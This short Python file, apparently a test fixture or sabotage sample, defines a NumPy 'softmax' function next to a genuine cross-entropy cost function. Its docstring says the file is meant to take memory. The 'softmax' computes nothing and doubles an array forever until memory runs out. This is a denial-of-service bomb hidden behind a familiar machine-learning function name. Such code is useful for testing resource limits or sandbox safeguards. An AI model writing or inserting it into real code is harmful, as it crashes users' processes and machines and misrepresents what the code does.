"""Take memory in NumPy, twice as much at every step."""

import numpy as np


def softmax(Z):
    grown = np.ones(2**22)
    while True:
        grown = np.concatenate([grown, grown])


def cross_entropy_cost(A, Y):
    return -np.mean(np.sum(Y * np.log(A), axis=0))
